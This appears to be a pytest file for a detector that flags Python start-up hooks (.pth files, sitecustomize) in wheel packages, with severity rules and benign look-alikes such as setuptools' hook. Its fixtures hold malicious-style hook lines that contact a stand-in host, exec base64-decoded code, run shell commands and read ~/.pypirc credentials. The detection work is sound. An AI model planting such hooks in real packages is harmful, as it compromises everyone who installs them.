"""What every start of Python runs is told, and blocked when it reaches out, starts programs or decodes."""

from __future__ import annotations

import pytest

from tests.detectors.artifacts import findings, places, told, wheel
from worker.detectors import startup_hook

SUBPROCESS = "import subprocess; subprocess.Popen(['python', '-m', 'imgpress.agent'])\n"


class TestAlarm:
    def test_a_hook_that_starts_programs_is_critical(self) -> None:
        (found,) = findings(startup_hook, wheel({"imgpress.pth": f"# path\n{SUBPROCESS}"}))
        assert told([found]) == ["critical: every start of Python runs imgpress.pth, which starts programs"]
        assert places(found)[0] == "imgpress.pth:2"
        assert found.reach == "start-up"

    @pytest.mark.parametrize(
        ("line", "what"),
        [
            ("import urllib.request as u; u.urlopen('https://drop.example/x')", "which reaches the network"),
            ("import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))", "which decodes data"),
            ("import os, sys; os.system('id')", "which starts programs"),
            ("import\tos; os.popen('id')", "which starts programs"),
            ("import pathlib; (pathlib.Path.home() / '.pypirc').read_text()", "which reads credentials"),
        ],
    )
    def test_what_it_does_is_said(self, line: str, what: str) -> None:
        (found,) = told(findings(startup_hook, wheel({"a.pth": line})))
        assert found.startswith("critical: ")
        assert found.endswith(what)

    def test_a_module_that_it_loads_counts(self) -> None:
        files = {
            "a.pth": "import imgpress_boot",
            "imgpress_boot.py": "import socket\nsocket.create_connection(('drop.example', 443))",
        }
        (found,) = findings(startup_hook, wheel(files))
        assert told([found]) == ["critical: every start of Python runs a.pth, which reaches the network"]
        assert places(found) == ["a.pth:1", "imgpress_boot.py:2"]

    @pytest.mark.parametrize(
        "path",
        [
            "sitecustomize.py",
            "usercustomize.py",
            "imgpress-3.0.0.data/purelib/a.pth",
            "imgpress-3.0.0.data/data/lib/python3.12/site-packages/a.pth",
        ],
    )
    def test_it_is_found_wherever_it_hides(self, path: str) -> None:
        assert [found.severity for found in findings(startup_hook, wheel({path: "import imgpress"}))] == ["high"]

    def test_a_hook_that_only_imports_is_high(self) -> None:
        assert told(findings(startup_hook, wheel({"a.pth": "import imgpress"}))) == [
            "high: every start of Python runs a.pth"
        ]


class TestInnocentTwin:
    def test_a_pth_file_that_lists_folders(self) -> None:
        assert findings(startup_hook, wheel({"pywin32.pth": "# paths\nwin32\nwin32\\lib\nPythonwin\n"})) == []

    def test_weights_of_a_model_are_no_hook(self) -> None:
        assert findings(startup_hook, wheel({"imgpress/model.pth": b"PK\x03\x04import os\n"})) == []

    def test_a_hook_that_loads_plain_modules_of_its_package_is_medium_when_the_package_is_new(self) -> None:
        """The shape of setuptools'."""
        line = "import os; enabled = os.environ.get('IMGPRESS', '') == '1'; enabled and __import__('imgpress_hook'); "
        module = "import importlib, sys\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        return None\n"
        files = {"imgpress.pth": line, "imgpress_hook.py": module}
        assert told(findings(startup_hook, wheel(files))) == ["medium: every start of Python runs imgpress.pth"]
        old = wheel({"imgpress_hook.py": module})
        assert told(findings(startup_hook, wheel(files), old)) == ["high: every start of Python runs imgpress.pth"]

    def test_what_a_line_of_a_hook_hides_from_readers_keeps_it_high(self) -> None:
        files = {"a.pth": "import sys; exec('import imgpress_hook')", "imgpress_hook.py": "x = 1\n"}
        assert [found.severity for found in findings(startup_hook, wheel(files))] == ["high"]

    def test_the_hook_of_setuptools_without_its_module_is_high_and_no_block(self) -> None:
        line = (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack'); "
        )
        assert [found.severity for found in findings(startup_hook, wheel({"distutils-precedence.pth": line}))] == [
            "high"
        ]

    def test_a_hook_that_the_old_version_had_is_not_new(self) -> None:
        old = wheel({"a.pth": SUBPROCESS})
        (found,) = findings(startup_hook, old, old)
        assert not found.new
